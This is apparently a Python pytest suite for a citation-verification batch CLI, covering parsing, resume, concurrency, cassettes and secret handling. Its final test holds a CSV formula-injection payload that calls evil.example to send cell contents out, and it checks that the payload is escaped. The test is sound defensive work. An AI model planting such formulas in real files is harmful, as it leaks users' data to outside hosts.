"""``citations batch``: precision lines, malformed input, journal and resume, concurrency.

Pages come from the website simulator and verdicts from the OpenAI simulator's
scripted brain (fixtures, not model output); embeddings are FakeEmbedder's.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fakes import (
    BOILING_CLAIM,
    FakeEmbedder,
    judge_env,
    kill_midway,
    seed_records,
    write_jsonl,
)
from simulators._server import Simulator
from simulators.scripted import FAKE_KEY, JudgeSimulator
from simulators.website import WebsiteHandler, WebsiteState, default_routes, html_page

from pytest_citations.batch import (
    EXIT_CITATION_ERRORS,
    EXIT_INPUT_ERRORS,
    Journal,
    Progress,
    parse_records,
)
from pytest_citations.cli import main
from pytest_citations.models import CitationVerdict
from pytest_citations.pipeline import Verifier
from pytest_citations.settings import Settings

TESTS = Path(__file__).resolve().parent
ROOT = TESTS.parent
SEED_LINES = "citation_precision=0.2222 (2/9)\nreachable_precision=0.3333 (2/6)\n"


def _settings(judge: JudgeSimulator, **extra: Any) -> Settings:
    values: dict[str, Any] = {
        "openai_api_key": FAKE_KEY,
        "openai_base_url": judge.url + "/v1",
        "fetcher": "direct",
        "allow_private_hosts": True,
        "retries": 0,
    }
    values.update(extra)
    return Settings(**values)


def _verifier(judge: JudgeSimulator, **extra: Any) -> Verifier:
    return Verifier(_settings(judge, **extra), embedder=FakeEmbedder())


def _run(argv: list[str], **kwargs: Any) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(argv, stdout=out, stderr=err, **kwargs)
    return code, out.getvalue(), err.getvalue()


def _csv(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


# ----------------------------------------------------------------------- input parsing


def test_parse_records_reports_line_numbers_and_duplicates() -> None:
    lines = [
        '{"id": "a", "claim": "c", "urls": ["https://x.test/1", "https://x.test/2"]}',
        "",
        "{not json",
        '{"id": "b", "claim": "c"}',
        '{"id": "a", "claim": "again", "urls": ["https://x.test/3"]}',
        '["a list"]',
        '{"id": 7, "claim": "c", "urls": "https://x.test/4", "quote": "q", "section": "4.1"}',
        '{"id": "e", "claim": "   ", "urls": ["https://x.test/5"]}',
        '{"id": "f", "claim": "c", "urls": []}',
        '{"id": "g", "claim": "c", "urls": ["u"], "quote": 3}',
    ]
    records, problems = parse_records(lines)
    assert [(record.id, record.line) for record in records] == [("a", 1), ("7", 7)]
    assert records[1].urls == ("https://x.test/4",) and records[1].section == "4.1"
    by_line = {problem.line: problem.message for problem in problems}
    assert sorted(by_line) == [3, 4, 5, 6, 8, 9, 10]
    assert "not valid JSON" in by_line[3]
    assert "urls" in by_line[4]
    assert "duplicate id 'a'" in by_line[5] and "line 1" in by_line[5]
    assert "object" in by_line[6]
    assert "claim" in by_line[8]
    assert "urls" in by_line[9]
    assert "quote" in by_line[10]
    assert str(problems[0]).startswith("line 3: ")


# ------------------------------------------------------------------------ the seed run


def test_seed_shaped_batch_prints_exactly_the_two_precision_lines(
    tmp_path: Path, website: Simulator, judge: JudgeSimulator
) -> None:
    source = write_jsonl(tmp_path / "answers.jsonl", seed_records(website.url))
    out = tmp_path / "reports" / "report.csv"
    code, stdout, stderr = _run(
        ["batch", str(source), "--out", str(out), "--json", str(tmp_path / "report.json")],
        verifier=_verifier(judge),
    )
    assert code == 0, stderr
    assert stdout == SEED_LINES
    rows = _csv(out)
    assert len(rows) == 9
    assert [(row["id"], row["url_index"]) for row in rows] == [
        ("boil", "0"), ("boil", "1"), ("boil-50", "0"), ("boil-50", "1"),
        ("jwt", "0"), ("jwt", "1"), ("cats", "0"), ("cats", "1"), ("cats", "2"),
    ]  # fmt: skip
    labels = [row["label"] for row in rows]
    assert labels.count("supported") == 2 and labels.count("unreachable") == 3
    assert rows[1]["reason"] == "http_404" and rows[1]["original_status"] == "404"
    report = json.loads((tmp_path / "report.json").read_text())
    assert report["summary"]["citation_precision"] == pytest.approx(2 / 9)
    assert report["summary"]["reachable_precision"] == pytest.approx(2 / 6)
    overall = {claim["id"]: claim["overall"] for claim in report["claims"]}
    assert overall == {
        "boil": "supported",
        "boil-50": "contradicted",
        "jwt": "supported",
        "cats": "not_found",
    }
    # journal removed after a complete run; audit written beside the report
    assert not Journal.path_for(out).exists()
    with sqlite3.connect(out.parent / "citations-audit.sqlite3") as db:
        assert db.execute("SELECT count(*) FROM audit").fetchone()[0] == 9
        assert db.execute("SELECT count(DISTINCT run_id) FROM audit").fetchone()[0] == 1
    # plain progress lines on a non-TTY stderr
    assert "[9/9]" in stderr


def test_no_audit_and_custom_audit_path(
    tmp_path: Path, website: Simulator, judge: JudgeSimulator
) -> None:
    source = write_jsonl(tmp_path / "in.jsonl", seed_records(website.url)[:1])
    code, _, _ = _run(
        ["batch", str(source), "--out", str(tmp_path / "a.csv"), "--no-audit"],
        verifier=_verifier(judge),
    )
    assert code == 0
    assert not (tmp_path / "citations-audit.sqlite3").exists()
    db = tmp_path / "elsewhere" / "audit.db"
    code, _, _ = _run(
        ["batch", str(source), "--out", str(tmp_path / "b.csv"), "--audit-db", str(db)],
        verifier=_verifier(judge),
    )
    assert code == 0 and db.exists()


def test_malformed_lines_are_reported_and_skipped(
    tmp_path: Path, website: Simulator, judge: JudgeSimulator
) -> None:
    records: list[Any] = list(seed_records(website.url))
    records.insert(1, '{"id": "broken", "claim": ')
    records.append({"id": "boil", "claim": "dup", "urls": [website.url + "/"]})
    source = write_jsonl(tmp_path / "in.jsonl", records)
    out = tmp_path / "report.csv"
    code, stdout, stderr = _run(
        ["batch", str(source), "--out", str(out)], verifier=_verifier(judge)
    )
    assert code == EXIT_INPUT_ERRORS == 2
    assert stdout == SEED_LINES  # the rest of the run went on
    assert "line 2: not valid JSON" in stderr
    assert "line 6: duplicate id 'boil' (first used on line 1)" in stderr
    assert len(_csv(out)) == 9


# ----------------------------------------------------------------- journal and resume


def test_unfinished_journal_needs_resume_or_restart(
    tmp_path: Path, website: Simulator, judge: JudgeSimulator
) -> None:
    source = write_jsonl(tmp_path / "in.jsonl", seed_records(website.url))
    out = tmp_path / "report.csv"
    Journal.create(
        Journal.path_for(out),
        {"format": "pytest-citations batch journal", "version": 1, "run_id": "old-run"},
    )
    code, _, stderr = _run(["batch", str(source), "--out", str(out)], verifier=_verifier(judge))
    assert code == 2
    assert "--resume" in stderr and "--restart" in stderr
    code, stdout, _ = _run(
        ["batch", str(source), "--out", str(out), "--restart"], verifier=_verifier(judge)
    )
    assert code == 0 and stdout == SEED_LINES


def test_resume_skips_finished_citations_and_drops_a_torn_line(
    tmp_path: Path, website: Simulator, judge: JudgeSimulator
) -> None:
    records = seed_records(website.url)
    source = write_jsonl(tmp_path / "in.jsonl", records)
    out = tmp_path / "report.csv"
    path = Journal.path_for(out)
    journal = Journal.create(
        path, {"format": "pytest-citations batch journal", "version": 1, "run_id": "run-1"}
    )
    # the first citation finished before the "crash"; its verdict is deliberately odd
    # so that a redo would be visible
    first = records[0]
    (record,), _ = parse_records([json.dumps(first)])
    done = next(record.citations())
    verdict = CitationVerdict(url=first["urls"][0], label="not_found", reason="from-journal")
    journal.append(
        {**done.identity(), "digest": done.digest(), "verdict": verdict.model_dump(mode="json")}
    )
    # a stale entry for an input that has since changed: must be redone
    (stale,), _ = parse_records([json.dumps({**first, "claim": "an older claim"})])
    old = list(stale.citations())[1]
    journal.append(
        {**old.identity(), "digest": old.digest(), "verdict": verdict.model_dump(mode="json")}
    )
    journal.close()
    with open(path, "ab") as handle:
        handle.write(b'{"record": "jwt", "index": 0, "cla')  # torn by kill -9
    code, stdout, stderr = _run(
        ["batch", str(source), "--out", str(out), "--resume", "--keep-journal"],
        verifier=_verifier(judge),
    )
    assert code == 0, stderr
    assert "resuming: 1/9" in stderr
    rows = _csv(out)
    assert len(rows) == 9
    assert rows[0]["reason"] == "from-journal"  # not redone
    assert rows[1]["label"] == "unreachable"  # redone
    assert stdout == "citation_precision=0.1111 (1/9)\nreachable_precision=0.1667 (1/6)\n"
    state = Journal.read(path)
    assert state.header["run_id"] == "run-1"
    keys = [(e["record"], e["index"]) for e in state.entries]
    assert keys.count(("boil", 0)) == 1
    assert len(set(keys)) == 9


class _Flaky:
    """A verifier that fails one URL with an unexpected error until told otherwise."""

    def __init__(self, inner: Verifier, bad: str) -> None:
        self.inner, self.bad, self.broken = inner, bad, True
        self.settings = inner.settings

    async def averify_citation(self, claim: str, source: str, **kwargs: Any) -> CitationVerdict:
        if self.broken and source == self.bad:
            raise RuntimeError("simulated crash in one citation")
        return await self.inner.averify_citation(claim, source, **kwargs)


def test_a_failing_citation_is_reported_and_retried_on_resume(
    tmp_path: Path, website: Simulator, judge: JudgeSimulator
) -> None:
    records = seed_records(website.url)
    source = write_jsonl(tmp_path / "in.jsonl", records)
    out = tmp_path / "report.csv"
    flaky = _Flaky(_verifier(judge), records[2]["urls"][0])
    code, stdout, stderr = _run(
        ["batch", str(source), "--out", str(out)],
        verifier=flaky,
    )
    assert code == EXIT_CITATION_ERRORS == 1
    rows = _csv(out)
    assert len(rows) == 9
    bad = [row for row in rows if row["error"]]
    assert len(bad) == 1 and "simulated crash" in bad[0]["error"] and bad[0]["label"] == ""
    assert stdout == "citation_precision=0.1250 (1/8)\nreachable_precision=0.2000 (1/5)\n"
    assert "--resume" in stderr
    assert Journal.path_for(out).exists()
    flaky.broken = False
    requests_before = len(judge.brain.requests)
    code, stdout, _ = _run(
        ["batch", str(source), "--out", str(out), "--resume"],
        verifier=flaky,
    )
    assert code == 0 and stdout == SEED_LINES
    assert len(judge.brain.requests) == requests_before + 1  # only the failed one redone
    assert not any(row["error"] for row in _csv(out))


def test_missing_key_stops_with_exit_3_and_keeps_finished_work(
    tmp_path: Path, website: Simulator, judge: JudgeSimulator, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("OPENAI_API_KEY", "CRAWLBASE_TOKEN", "CRAWLBASE_JS_TOKEN", "JUDGE_PROVIDER"):
        monkeypatch.delenv(name, raising=False)
    for name, value in judge_env(judge.url, FAKE_KEY).items():
        monkeypatch.setenv(name, value)
    # api.openai.com needs a key: the request is refused before it leaves the machine
    monkeypatch.delenv("OPENAI_API_KEY")
    monkeypatch.delenv("OPENAI_BASE_URL")
    source = write_jsonl(tmp_path / "in.jsonl", seed_records(website.url))
    out = tmp_path / "report.csv"
    code, stdout, stderr = _run(
        ["batch", str(source), "--out", str(out), "--concurrency", "1"], embedder=FakeEmbedder()
    )
    assert code == 3
    assert stdout == ""
    message = stderr.strip().splitlines()[-1]
    assert message.startswith("citations batch: OPENAI_API_KEY is not set")
    assert "Traceback" not in stderr
    assert Journal.path_for(out).exists() and not out.exists()
    monkeypatch.setenv("OPENAI_API_KEY", FAKE_KEY)
    monkeypatch.setenv("OPENAI_BASE_URL", judge.url + "/v1")
    code, stdout, stderr = _run(
        ["batch", str(source), "--out", str(out), "--resume"], embedder=FakeEmbedder()
    )
    assert code == 0, stderr
    assert stdout == SEED_LINES


# ------------------------------------------------------------------------- concurrency


class _CountingHandler(WebsiteHandler):
    """The website, counting requests in flight (each answer takes a while)."""

    def do_GET(self) -> None:
        state: Any = getattr(self.server, "state")  # noqa: B009
        with state.lock:
            state.in_flight += 1
            state.max_in_flight = max(state.max_in_flight, state.in_flight)
        try:
            time.sleep(0.15)
            super().do_GET()
        finally:
            with state.lock:
                state.in_flight -= 1


class _CountingState(WebsiteState):
    in_flight: int = 0
    max_in_flight: int = 0


@pytest.fixture
def counting_site() -> Iterator[Simulator]:
    routes = default_routes()
    for index in range(10):
        routes[f"/page/{index}"] = html_page(f"Page {index}", f"<p>{BOILING_CLAIM} ({index})</p>")
    with Simulator(_CountingHandler, _CountingState(routes=routes)) as sim:
        yield sim


def _ten_citations(site: str) -> list[dict[str, Any]]:
    return [
        {"id": f"r{index}", "claim": BOILING_CLAIM, "urls": [f"{site}/page/{index}"]}
        for index in range(10)
    ]


def test_flag_bounds_concurrency(
    tmp_path: Path, counting_site: Simulator, judge: JudgeSimulator
) -> None:
    source = write_jsonl(tmp_path / "in.jsonl", _ten_citations(counting_site.url))
    code, _, _ = _run(
        ["batch", str(source), "--out", str(tmp_path / "r.csv"), "--concurrency", "2"],
        verifier=_verifier(judge, batch_concurrency=7),  # the flag wins
    )
    assert code == 0
    assert counting_site.state.max_in_flight == 2


def test_batch_concurrency_variable_bounds_concurrency(
    tmp_path: Path, counting_site: Simulator, judge: JudgeSimulator, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in judge_env(judge.url, FAKE_KEY).items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("BATCH_CONCURRENCY", "3")
    source = write_jsonl(tmp_path / "in.jsonl", _ten_citations(counting_site.url))
    code, _, _ = _run(
        ["batch", str(source), "--out", str(tmp_path / "r.csv")], embedder=FakeEmbedder()
    )
    assert code == 0
    assert counting_site.state.max_in_flight == 3


def test_event_loop_keeps_running_during_blocking_work(
    tmp_path: Path, website: Simulator, judge: JudgeSimulator
) -> None:
    """Embedding (slow, blocking) runs in worker threads: the loop ticks meanwhile."""
    import asyncio

    from pytest_citations.batch import BatchOptions, run_batch

    ticks: list[float] = []
    during: list[int] = []

    class SlowEmbedder(FakeEmbedder):
        def embed(self, texts: Any) -> list[list[float]]:
            before = len(ticks)
            time.sleep(0.5)  # blocking work: the loop must keep ticking meanwhile
            during.append(len(ticks) - before)
            return super().embed(texts)

    verifier = Verifier(_settings(judge), embedder=SlowEmbedder())
    records = seed_records(website.url)
    # warm up: the first citation imports the fetch and judge modules (a one-off)
    asyncio.run(verifier.averify_citation(records[0]["claim"], records[0]["urls"][1]))
    source = write_jsonl(tmp_path / "in.jsonl", records[:2])
    during.clear()

    async def scenario() -> None:
        async def heartbeat() -> None:
            while True:
                ticks.append(time.monotonic())
                await asyncio.sleep(0.02)

        beat = asyncio.create_task(heartbeat())
        await asyncio.sleep(0.05)
        options = BatchOptions(input=source, out=tmp_path / "r.csv", concurrency=4)
        await run_batch(options, verifier, stderr=io.StringIO())
        beat.cancel()

    asyncio.run(scenario())
    assert len(during) == 2  # boil#0 and boil-50#0 were ranked
    # ~25 ticks are expected per 0.5 s; an embedder run on the loop itself would
    # leave 0 for every call (max, not all: a loaded CI machine may starve one).
    assert max(during) >= 3, during


# ---------------------------------------------------------------------------- progress


def test_progress_bar_on_a_tty_and_lines_otherwise() -> None:
    from pytest_citations.batch import BatchRecord, Citation

    record = BatchRecord(id="r", claim="c", urls=("u",), line=1)
    stream = io.StringIO()
    bar = Progress(2, 0, stream, tty=True)
    bar.start()
    bar.advance(Citation(record, 0, "u"), "supported")
    bar.advance(Citation(record, 0, "u"), "supported")
    bar.finish()
    text = stream.getvalue()
    assert "\rverifying [" in text and "2/2" in text and text.endswith("\n")
    lines = io.StringIO()
    plain = Progress(2, 1, lines, tty=False)
    plain.start()
    plain.advance(Citation(record, 0, "u"), "unreachable")
    assert lines.getvalue().splitlines() == [
        "resuming: 1/2 citations already done",
        "[2/2] r #0 unreachable u",
    ]


# ------------------------------------------------------------- a real kill, then resume


def test_resume_after_sigkill_finishes_every_citation_exactly_once(
    tmp_path: Path, judge: JudgeSimulator
) -> None:
    routes = default_routes()
    for route in routes.values():
        if not isinstance(route, list):
            route.delay = 0.4  # slow pages: the kill lands mid-run
    state = WebsiteState(routes=routes)
    with Simulator(WebsiteHandler, state) as site:
        source = write_jsonl(tmp_path / "in.jsonl", seed_records(site.url))
        out = tmp_path / "report.csv"
        journal = Journal.path_for(out)
        env = {**os.environ, **judge_env(judge.url, FAKE_KEY), "PYTHONPATH": str(ROOT)}
        argv = [
            sys.executable,
            str(TESTS / "fakes.py"),
            "batch",
            str(source),
            "--out",
            str(out),
            "--concurrency",
            "1",
            "--keep-journal",
        ]
        child = subprocess.Popen(
            argv, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=tmp_path
        )
        kill_midway(child, journal, entries=3, timeout=60)
        before = Journal.read(journal)
        done_before = {(e["record"], e["index"]) for e in before.entries}
        assert 3 <= len(done_before) < 9
        assert not out.exists()

        resumed = subprocess.run(
            [*argv, "--resume"], env=env, capture_output=True, text=True, cwd=tmp_path, timeout=120
        )
        assert resumed.returncode == 0, resumed.stderr
        assert resumed.stdout == SEED_LINES
        after = Journal.read(journal)
        keys = [(e["record"], e["index"]) for e in after.entries]
        assert len(keys) == len(set(keys)) == 9  # nothing redone, nothing duplicated
        assert keys[: len(before.entries)] == [(e["record"], e["index"]) for e in before.entries]
        rows = _csv(out)
        assert sorted((row["id"], row["url_index"]) for row in rows) == sorted(
            (record["id"], str(index))
            for record in seed_records(site.url)
            for index in range(len(record["urls"]))
        )


# ------------------------------------------------------------- cassettes and secrets


def test_record_then_replay_with_cassettes(
    tmp_path: Path, judge: JudgeSimulator, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in judge_env(judge.url, FAKE_KEY).items():
        monkeypatch.setenv(name, value)
    cassettes = tmp_path / "cassettes"
    site_sim = Simulator(WebsiteHandler, WebsiteState(routes=default_routes())).start()
    try:
        source = write_jsonl(tmp_path / "in.jsonl", seed_records(site_sim.url))
        code, stdout, stderr = _run(
            [
                "batch", str(source), "--out", str(tmp_path / "one.csv"),
                "--record-mode", "once", "--cassette-dir", str(cassettes),
            ],
            embedder=FakeEmbedder(),
        )  # fmt: skip
        assert code == 0, stderr
        assert stdout == SEED_LINES
    finally:
        site_sim.stop()
    recorded = list(cassettes.rglob("*.yaml"))
    assert recorded
    assert not any(FAKE_KEY in path.read_text() for path in recorded)
    # the site is gone and the key unset: only the cassettes can answer
    monkeypatch.delenv("OPENAI_API_KEY")
    judge.brain.requests.clear()
    code, stdout, stderr = _run(
        [
            "batch", str(source), "--out", str(tmp_path / "two.csv"),
            "--record-mode", "none", "--cassette-dir", str(cassettes),
        ],
        embedder=FakeEmbedder(),
    )  # fmt: skip
    assert code == 0, stderr
    assert stdout == SEED_LINES
    assert judge.brain.requests == []
    first, second = _csv(tmp_path / "one.csv"), _csv(tmp_path / "two.csv")
    assert [row["label"] for row in first] == [row["label"] for row in second]


def test_no_secret_in_reports_journal_audit_or_log(
    tmp_path: Path, website: Simulator, judge: JudgeSimulator, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret_token = "cb-SECRET-token-0123456789"
    for name, value in judge_env(judge.url, FAKE_KEY).items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("CRAWLBASE_JS_TOKEN", secret_token)  # set, but the fetcher is direct
    records = seed_records(website.url)
    # a page that quotes a secret back, as a hostile or echoing site might
    website.state.routes["/echo"] = html_page("Echo", f"<p>token {FAKE_KEY} here</p>")
    records.append({"id": "echo", "claim": f"token {FAKE_KEY}", "urls": [website.url + "/echo"]})
    judge.brain.reply(f"token {FAKE_KEY}", "supported", f"token {FAKE_KEY} here", 0.9)
    source = write_jsonl(tmp_path / "in.jsonl", records)
    out = tmp_path / "report.csv"
    code, stdout, stderr = _run(
        [
            "batch", str(source), "--out", str(out), "--json", str(tmp_path / "r.json"),
            "--keep-journal",
        ],
        embedder=FakeEmbedder(),
    )  # fmt: skip
    assert code == 0, stderr
    produced = [out, tmp_path / "r.json", Journal.path_for(out)]
    produced += list(tmp_path.glob("citations-audit.sqlite3*"))
    for path in produced:
        data = path.read_bytes()
        assert FAKE_KEY.encode() not in data, path
        assert secret_token.encode() not in data, path
    assert FAKE_KEY not in stdout + stderr and secret_token not in stdout + stderr


def test_output_is_not_lost_when_stdout_is_a_pipe(tmp_path: Path) -> None:
    """Plain ``citations batch`` on an empty file: header-only report, n/a precision."""
    source = tmp_path / "empty.jsonl"
    source.write_text("\n")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    env.pop("OPENAI_API_KEY", None)
    result = subprocess.run(
        [sys.executable, str(TESTS / "fakes.py"), "batch", str(source), "--out", "r.csv"],
        env=env,
        capture_output=True,
        text=True,
        cwd=tmp_path,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout == "citation_precision=n/a (0/0)\nreachable_precision=n/a (0/0)\n"
    assert (tmp_path / "r.csv").read_text().startswith("id,line,url_index,claim,url,label")


def test_threads_do_not_leak(tmp_path: Path, website: Simulator, judge: JudgeSimulator) -> None:
    # The process-wide worker pools (pytest_citations._threads) start threads on
    # first use and keep them, up to their size; a batch leaves nothing else
    # behind (its journal writer, its connections' threads), however many run.
    from pytest_citations._threads import BLOCKING_WORKERS

    before = {thread.ident for thread in threading.enumerate()}
    source = write_jsonl(tmp_path / "in.jsonl", seed_records(website.url))
    for run in range(3):
        _run(
            ["batch", str(source), "--out", str(tmp_path / f"{run}.csv")], verifier=_verifier(judge)
        )
    new = [thread.name for thread in threading.enumerate() if thread.ident not in before]
    assert all(name.startswith(("citations-blocking", "citations-embed")) for name in new), new
    assert len(new) <= BLOCKING_WORKERS + 1


def test_ctrl_c_exits_130_and_resume_finishes(tmp_path: Path, judge: JudgeSimulator) -> None:
    routes = default_routes()
    for route in routes.values():
        if not isinstance(route, list):
            route.delay = 0.3
    with Simulator(WebsiteHandler, WebsiteState(routes=routes)) as site:
        source = write_jsonl(tmp_path / "in.jsonl", seed_records(site.url))
        out = tmp_path / "report.csv"
        env = {**os.environ, **judge_env(judge.url, FAKE_KEY), "PYTHONPATH": str(ROOT)}
        argv = [sys.executable, str(TESTS / "fakes.py"), "batch", str(source), "--out", str(out)]
        child = subprocess.Popen(
            [*argv, "--concurrency", "1"],
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            cwd=tmp_path,
        )
        journal = Journal.path_for(out)
        deadline = time.monotonic() + 60
        while not (journal.exists() and len(Journal.read(journal).entries) >= 2):
            assert child.poll() is None and time.monotonic() < deadline
            time.sleep(0.02)
        child.send_signal(signal.SIGINT)
        _, stderr = child.communicate(timeout=30)
        assert child.returncode == 130, stderr
        assert "--resume" in stderr and "Traceback" not in stderr
        resumed = subprocess.run(
            [*argv, "--resume"], env=env, capture_output=True, text=True, cwd=tmp_path, timeout=120
        )
        assert resumed.returncode == 0, resumed.stderr
        assert resumed.stdout == SEED_LINES
        assert len(_csv(out)) == 9


def test_replay_only_without_cassettes_is_exit_3(
    tmp_path: Path, website: Simulator, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CITATIONS_FETCHER", "direct")
    monkeypatch.setenv("CITATIONS_ALLOW_PRIVATE_HOSTS", "1")
    source = write_jsonl(tmp_path / "in.jsonl", seed_records(website.url))
    code, stdout, stderr = _run(
        [
            "batch", str(source), "--out", str(tmp_path / "r.csv"),
            "--record-mode", "none", "--cassette-dir", str(tmp_path / "none"),
        ],
        embedder=FakeEmbedder(),
    )  # fmt: skip
    assert code == 3 and stdout == ""
    assert "record mode 'none'" in stderr and "--record-mode once" in stderr
    assert website.state.hits == {}  # nothing went out


def test_csv_cells_never_start_a_spreadsheet_formula(tmp_path: Path) -> None:
    import csv

    from pytest_citations.batch import BatchRecord, BatchRow, Citation, write_csv
    from pytest_citations.models import CitationVerdict, Label

    claim = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    record = BatchRecord(id="q1", claim=claim, urls=("https://example.com/a",), line=1)
    verdict = CitationVerdict(
        url="https://example.com/a",
        label=Label.supported,
        evidence_quote="@SUM(A1)",
        confidence=0.9,
    )
    write_csv(tmp_path / "r.csv", [BatchRow(Citation(record, 0, record.urls[0]), verdict)])
    (row,) = csv.DictReader((tmp_path / "r.csv").open())
    assert row["claim"] == "'" + claim
    assert row["evidence_quote"] == "'@SUM(A1)"
    assert row["confidence"] == "0.9"
